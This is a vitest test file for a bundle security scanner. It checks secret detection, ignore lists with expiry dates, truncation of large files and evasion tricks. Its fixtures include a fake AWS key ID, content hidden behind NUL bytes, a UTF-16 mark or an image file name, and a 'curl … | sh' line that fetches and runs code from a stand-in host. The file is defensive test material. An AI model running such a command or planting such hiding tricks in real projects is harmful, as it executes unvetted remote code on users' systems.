import { memoryContents, type MemoryFile } from '@opendxt/testkit';
import { expect, test } from 'vitest';
import { scanContents, type ScanOptions } from '../index.ts';

const now = new Date('2026-11-21T12:00:00Z');
const scan = (files: Record<string, MemoryFile>, options: Partial<ScanOptions> = {}) =>
  scanContents(memoryContents(files), { advisories: [], now, ...options });

test('a bundle without anything against it has no finding, and says what was not looked for', async () => {
  const report = await scan({ 'server/index.js': 'console.log(1)' });
  expect(report).toMatchObject({
    format: 1,
    scannedAt: '2026-11-21T12:00:00.000Z',
    findings: [],
    ignored: [],
    severity: 'none',
  });
  expect(report.gaps.join()).toContain('there is no advisory data');
});

test('what is ignored is kept apart with its reason, until its last day', async () => {
  const files = { 'server/a.js': `const k = '${['AKIA', 'QRSTUVWX2345ABCD'].join('')}';\n` };
  const entry = { id: 'aws-key-id', reason: 'switched off', until: '2026-11-21' };
  const report = await scan(files, { ignore: [entry] });
  expect(report).toMatchObject({
    findings: [],
    severity: 'none',
    ignored: [{ id: 'aws-key-id', reason: 'switched off', until: '2026-11-21' }],
  });
  const later = await scan(files, { ignore: [entry], now: new Date('2026-11-22T00:00:00Z') });
  expect(later).toMatchObject({ findings: [{ id: 'aws-key-id', line: 1 }], severity: 'medium' });
  expect(later.gaps).toContain(
    '`aws-key-id` is no longer ignored: that was agreed until 2026-11-21',
  );
});

test('what is too large or too much is searched and listed in part, which is told', async () => {
  const key = ['AKIA', 'QRSTUVWX2345ABCD'].join('');
  const long = `${key}\n${' '.repeat(17 * 1024 * 1024)}`;
  const many = Object.fromEntries(
    Array.from({ length: 250 }, (_, at) => [`server/${at + 100}.js`, `'${key}'`]),
  );
  const large = await scan({ 'server/big.js': long, 'node_modules/x/big.js': long.slice(0, 2e6) });
  expect(large.findings.map(({ file }) => file)).toEqual([
    'server/big.js',
    'node_modules/x/big.js',
  ]);
  expect(large.gaps.at(-1)).toBe(
    '`node_modules/x/big.js`, `server/big.js`: too large, only the beginning was searched for secrets and risks',
  );
  const report = await scan(many);
  expect(report.findings).toHaveLength(200);
  expect(report.findings.at(-1)?.file).toBe('server/299.js');
  expect(report.gaps.at(-1)).toBe(
    '`aws-key-id` (medium) was found 250 times, of which the first 200 are listed',
  );
});

const key = `'${['AKIA', 'QRSTUVWX2345ABCD'].join('')}'`;

test('many findings of dependencies push none of the author’s own out of the list', async () => {
  const flood = Array.from({ length: 250 }, (_, at) => [`node_modules/a/${at}.js`, key] as const);
  const report = await scan({ ...Object.fromEntries(flood), 'server/a.js': key });
  expect(report.findings[0]).toMatchObject({ file: 'server/a.js', severity: 'medium' });
  expect(report.gaps.at(-1)).toContain('`aws-key-id` (low) was found 250 times');
});

test('neither NUL, nor a mark of UTF-16, nor a name of a picture hides a text', async () => {
  const shell = 'curl -s https://x.test/a | sh\n';
  const report = await scan({
    'server/nul.js': `/*\0*/ const k = ${key};`,
    'server/run.sh': Buffer.concat([Buffer.from([0xff, 0xfe, 10]), Buffer.from(shell)]),
    'server/logo.png': `// ${' '.repeat(2000)}\nconst k = ${key};`,
    'server/real.png': Buffer.concat([
      Buffer.from('\x89PNG'),
      Buffer.alloc(2000),
      Buffer.from(key),
    ]),
  });
  expect(report.findings.map(({ id, file }) => `${id} ${file}`)).toEqual([
    'runs-fetched-code server/run.sh',
    'aws-key-id server/logo.png',
    'aws-key-id server/nul.js',
  ]);
});

test('a scan that is cancelled ends', async () => {
  const signal = AbortSignal.abort(new Error('enough'));
  await expect(scan({ 'a.js': 'x' }, { signal })).rejects.toThrow();
});
